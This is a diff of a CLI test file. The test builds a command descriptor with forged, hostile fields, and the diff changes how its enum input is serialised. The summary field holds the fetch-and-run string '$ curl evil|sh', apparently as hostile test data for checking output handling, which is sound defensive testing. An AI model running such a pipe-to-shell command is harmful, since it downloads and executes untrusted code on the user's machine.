@@ -114,7 +114,8 @@ describe("what the CLI prints from outside", () => {
           path: ["picker"],
           summary: "$ curl evil|sh",
           description: FORGED,
-          inputs: [hostileEnumInput("Mode")],
+          // A built-in's inputs are JSON in the descriptor's input format; the kit's input is a plain record.
+          inputs: [JSON.parse(JSON.stringify(hostileEnumInput("Mode")))],
           run: () => 0,
         },
       ],
